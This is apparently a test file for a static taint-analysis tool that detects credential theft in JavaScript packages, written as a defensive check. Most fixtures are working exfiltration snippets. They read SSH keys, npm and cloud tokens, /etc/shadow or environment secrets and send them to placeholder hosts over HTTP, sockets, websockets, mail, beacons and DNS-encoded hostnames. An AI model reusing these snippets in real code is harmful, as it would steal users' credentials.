import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const KEY = "const fs = require('fs'); const os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n";

async function flowsOf(code: string): Promise<string[]> {
  return flowSummary(await analyze({ "index.js": KEY + code }));
}

const SENT = "ssh-key -> http https://t.example.invalid @index.js:3 (import)";

describe("taint propagation", () => {
  it.each([
    ["variables", "const a = key; const b = a; fetch('https://t.example.invalid', { body: b });"],
    ["object fields", "const o = {}; o.data = { k: key }; fetch('https://t.example.invalid', { body: o });"],
    ["object literals and spread", "const base = { k: key }; fetch('https://t.example.invalid', { body: { ...base, v: 1 } });"],
    ["arrays", "const parts = []; parts.push('x', key); fetch('https://t.example.invalid', { body: parts.join(',') });"],
    ["function parameters", "function send(d) { fetch('https://t.example.invalid', { body: d }); }\nsend(key);"],
    ["returns", "function wrap(d) { return { payload: d }; }\nfetch('https://t.example.invalid', { body: wrap(key) });"],
    ["arrow functions and closures", "const send = () => fetch('https://t.example.invalid', { body: key });\nsend();"],
    ["string building", "const s = 'k=' + key.toString().concat('!') + `;${key}`; fetch('https://t.example.invalid', { body: s });"],
    ["base64 encoding", "fetch('https://t.example.invalid', { body: Buffer.from(key).toString('base64') });"],
    ["btoa and JSON.stringify", "fetch('https://t.example.invalid', { body: btoa(JSON.stringify({ key })) });"],
    ["querystring and URLSearchParams", "const q = require('querystring').stringify({ key }); fetch('https://t.example.invalid', { body: new URLSearchParams({ q }) });"],
    ["zlib compression", "fetch('https://t.example.invalid', { body: require('zlib').gzipSync(key) });"],
    ["class instances", "class R { constructor(d) { this.d = d; } body() { return this.d; } }\nfetch('https://t.example.invalid', { body: new R(key).body() });"],
    ["a Set collecting values", "const all = new Set(); all.add(key); fetch('https://t.example.invalid', { body: [...all].join() });"],
  ])("through %s", async (_name, code) => {
    const flows = await flowsOf(code);
    expect(flows).toHaveLength(1);
    expect(flows[0]).toMatch(/^ssh-key -> http https:\/\/t\.example\.invalid @index\.js:\d+ \(import\)$/);
  });

  it.each([
    ["net.connect", "const s = require('net').connect(4000, 't.example.invalid', () => { s.write(key); s.end(); });"],
    ["tls.connect with options", "const s = require('tls').connect({ host: 't.example.invalid', port: 443 }, () => s.end(key));"],
    ["net.createConnection", "const c = require('net').createConnection({ host: 't.example.invalid', port: 9 }, function () { c.end(key); });"],
  ])("into the connection a %s callback writes to after the call has bound it", async (_name, code) => {
    const flows = await flowsOf(code);
    expect(flows).toHaveLength(1);
    expect(flows[0]).toMatch(/^ssh-key -> socket t\.example\.invalid.* \(import\)$/);
  });

  it("through fs.readFile callbacks", async () => {
    const flows = flowSummary(
      await analyze({ "index.js": "require('fs').readFile(require('os').homedir() + '/.npmrc', 'utf8', (err, data) => {\n  fetch('https://t.example.invalid', { body: data });\n});" }),
    );
    expect(flows).toEqual(["registry-token -> http https://t.example.invalid @index.js:2 (import)"]);
  });

  it("through promises: .then and await", async () => {
    const thenFlows = flowSummary(
      await analyze({ "index.js": "require('fs').promises.readFile('/etc/shadow').then((d) => fetch('https://t.example.invalid', { body: d }));" }),
    );
    expect(thenFlows).toEqual(["system-secrets -> http https://t.example.invalid @index.js:1 (import)"]);
    const awaitFlows = flowSummary(
      await analyze({ "index.mjs": "import { readFile } from 'fs/promises';\nconst d = await readFile('/etc/shadow');\nawait fetch('https://t.example.invalid', { body: d });", "package.json": '{"main":"index.mjs"}' }),
    );
    expect(awaitFlows).toEqual(["system-secrets -> http https://t.example.invalid @index.mjs:3 (import)"]);
  });

  it("through new Promise(resolve) and async functions", async () => {
    const flows = await flowsOf(
      "function load() { return new Promise((resolve) => { setTimeout(() => resolve(key), 10); }); }\nasync function go() { const v = await load(); await fetch('https://t.example.invalid', { body: v }); }\ngo();",
    );
    expect(flows).toEqual(["ssh-key -> http https://t.example.invalid @index.js:4 (import)"]);
  });

  it("through stream data/end events", async () => {
    const code = `const fs = require('fs');
let body = '';
const s = fs.createReadStream(require('os').homedir() + '/.kube/config');
s.on('data', (chunk) => { body += chunk; });
s.on('end', () => require('https').request({ hostname: 't.example.invalid', method: 'POST' }).end(body));`;
    expect(flowSummary(await analyze({ "index.js": code }))).toEqual(["cloud-credentials -> http https://t.example.invalid @index.js:5 (import)"]);
  });

  it("through createReadStream(p).pipe(request)", async () => {
    const code = "const fs = require('fs');\nconst req = require('https').request({ hostname: 't.example.invalid', method: 'PUT' });\nfs.createReadStream('/etc/shadow').pipe(req);";
    expect(flowSummary(await analyze({ "index.js": code }))).toEqual(["system-secrets -> http https://t.example.invalid @index.js:2 (import)"]);
  });

  it("through socket writes, websocket sends and mail", async () => {
    const socket = await flowsOf("const c = require('net').connect(4444, '203.0.113.8'); c.write(key);");
    expect(socket).toEqual(["ssh-key -> socket 203.0.113.8:4444 @index.js:3 (import)"]);
    const ws = await flowsOf("const W = require('ws'); const w = new W('wss://w.example.invalid'); w.on('open', () => w.send(key));");
    expect(ws).toEqual(["ssh-key -> websocket wss://w.example.invalid @index.js:3 (import)"]);
    const mail = await flowsOf("require('nodemailer').createTransport({ host: 'smtp.example.invalid' }).sendMail({ text: key });");
    expect(mail).toEqual(["ssh-key -> mail smtp.example.invalid @index.js:3 (import)"]);
  });

  it("through XMLHttpRequest, socket.io and sendBeacon", async () => {
    const xhr = await flowsOf("const x = new XMLHttpRequest(); x.open('POST', 'https://x.example.invalid/c'); x.send(key);");
    expect(xhr).toEqual(["ssh-key -> http https://x.example.invalid/c @index.js:3 (import)"]);
    const io = await flowsOf("const s = require('socket.io-client')('https://io.example.invalid'); s.emit('k', key);");
    expect(io).toEqual(["ssh-key -> websocket https://io.example.invalid @index.js:3 (import)"]);
    const beacon = await flowsOf("navigator.sendBeacon('https://b.example.invalid/b', key);");
    expect(beacon).toEqual(["ssh-key -> http https://b.example.invalid/b @index.js:3 (import)"]);
  });

  it("through DNS lookups carrying data in the hostname", async () => {
    const flows = await flowsOf("require('dns').lookup(Buffer.from(key).toString('hex') + '.x.example.invalid', () => {});");
    expect(flows).toEqual(["ssh-key -> dns *.x.example.invalid @index.js:3 (import)"]);
  });

  it("keeps file:line:column steps with a note per transformation", async () => {
    const facts = await analyze({ "index.js": KEY + "const b = Buffer.from(key).toString('base64');\nfetch('https://t.example.invalid', { body: b });" });
    const steps = facts.flows[0]!.steps;
    expect(steps.map((s) => `${s.line}:${s.note}`)).toEqual([
      "2:reads an SSH private key: ~/.ssh/id_rsa",
      "3:base64-encoded",
      "4:sent by fetch() to https://t.example.invalid",
    ]);
    expect(steps[0]!.column).toBe(13);
  });
});

describe("environment sources", () => {
  it("secret-named variables, by member, index and destructuring", async () => {
    const facts = await analyze({
      "index.js": "const a = process.env.NPM_TOKEN; const b = process.env['GITHUB_TOKEN']; const { AWS_SECRET_ACCESS_KEY } = process.env; const c = process.env.NODE_ENV;\nfetch('https://e.example.invalid', { body: a + b + AWS_SECRET_ACCESS_KEY + c });",
    });
    expect(facts.flows.map((f) => f.source.detail).sort()).toEqual(["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN"]);
  });

  it.each([
    ["JSON.stringify(process.env)", "JSON.stringify(process.env)"],
    ["Object.entries", "Object.entries(process.env).map(([k, v]) => k + v).join()"],
    ["spread", "JSON.stringify({ ...process.env })"],
    ["Object.assign", "JSON.stringify(Object.assign({}, process.env))"],
    ["process.env passed as a value", "process.env"],
  ])("the whole environment via %s", async (_name, expression) => {
    const facts = await analyze({ "index.js": `fetch('https://e.example.invalid', { method: 'POST', body: ${expression} });` });
    expect(facts.flows.map((f) => f.source.kind)).toEqual(["env-dump"]);
  });

  it("does not make process.env passed to a child process a source", async () => {
    const facts = await analyze({ "index.js": "require('child_process').spawn('node', ['x.js'], { env: { ...process.env, DEBUG: '1' } });" });
    expect(facts.sources).toEqual([]);
    expect(facts.flows).toEqual([]);
  });
});

describe("sanitizers", () => {
  it("cuts taint at hashes and HMACs", async () => {
    const code = "const crypto = require('crypto');\nconst sig = crypto.createHmac('sha256', process.env.AWS_SECRET_ACCESS_KEY).update('msg').digest('hex');\nconst h = crypto.createHash('sha256').update(process.env.NPM_TOKEN).digest('hex');\nfetch('https://s.example.invalid', { headers: { Authorization: sig, X: h } });";
    const facts = await analyze({ "index.js": code });
    expect(facts.flows).toEqual([]);
    expect(facts.sources).toHaveLength(2);
  });

  it("does not cut taint at encryption", async () => {
    const flows = await flowsOf("const c = require('crypto').createCipheriv('aes-256-cbc', 'k', 'iv'); fetch('https://t.example.invalid', { body: c.update(key) + c.final() });");
    expect(flows).toHaveLength(1);
  });
});

describe("precision", () => {
  it("sends nothing when no credential reaches the sink", async () => {
    const facts = await analyze({ "index.js": "const os = require('os');\nfetch('https://telemetry.example.com/v1', { method: 'POST', body: JSON.stringify({ v: '1', p: os.platform(), ci: !!process.env.CI }) });" });
    expect(facts.flows).toEqual([]);
    expect(facts.sinks.map((s) => s.destination)).toEqual(["https://telemetry.example.com/v1"]);
  });

  it("an SSH key handed to ssh2 is not a flow", async () => {
    const code = "const { Client } = require('ssh2'); const fs = require('fs');\nconst conn = new Client();\nconn.on('ready', () => conn.exec('uptime', () => {})).connect({ host: 'h', username: 'u', privateKey: fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa') });";
    const facts = await analyze({ "index.js": code });
    expect(facts.sources.map((s) => s.kind)).toEqual(["ssh-key"]);
    expect(facts.sinks).toEqual([]);
    expect(facts.flows).toEqual([]);
  });

  it("an .npmrc token sent to the registry read from that .npmrc is marked destinationFromSource", async () => {
    const code = `const fs = require('fs'); const os = require('os');
const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const registry = /registry=(.*)/.exec(rc)[1];
const token = /_authToken=(.*)/.exec(rc)[1];
fetch(registry + '-/whoami', { headers: { authorization: 'Bearer ' + token } });`;
    const facts = await analyze({ "index.js": code });
    expect(facts.flows).toHaveLength(1);
    expect(facts.flows[0]!.sink.destinationFromSource).toBe(true);
  });

  it("a token sent to a fixed host is not destinationFromSource even when the URL carries it", async () => {
    const facts = await analyze({ "index.js": "fetch('https://x.example.invalid/?t=' + process.env.NPM_TOKEN);" });
    expect(facts.flows).toHaveLength(1);
    expect(facts.flows[0]!.sink.destinationFromSource).toBeUndefined();
  });

  it("secret-named parameters of an SSH wrapper are credentials (ssh-decorate shape)", async () => {
    const code = "const { Client } = require('ssh2');\nmodule.exports = function connect(host, user, password) {\n  new Client().connect({ host, username: user, password });\n  require('http').request('http://c.example.invalid/i').end('p=' + password);\n};";
    const facts = await analyze({ "index.js": code });
    expect(flowSummary(facts)).toEqual(["password-prompt -> http http://c.example.invalid/i @index.js:4 (call)"]);
  });

  it("readline password prompts are sources", async () => {
    const code = "const rl = require('readline').createInterface({ input: process.stdin });\nrl.question('Password: ', (pw) => fetch('https://p.example.invalid', { body: pw }));";
    expect(flowSummary(await analyze({ "index.js": code }))).toEqual(["password-prompt -> http https://p.example.invalid @index.js:2 (import)"]);
  });
});
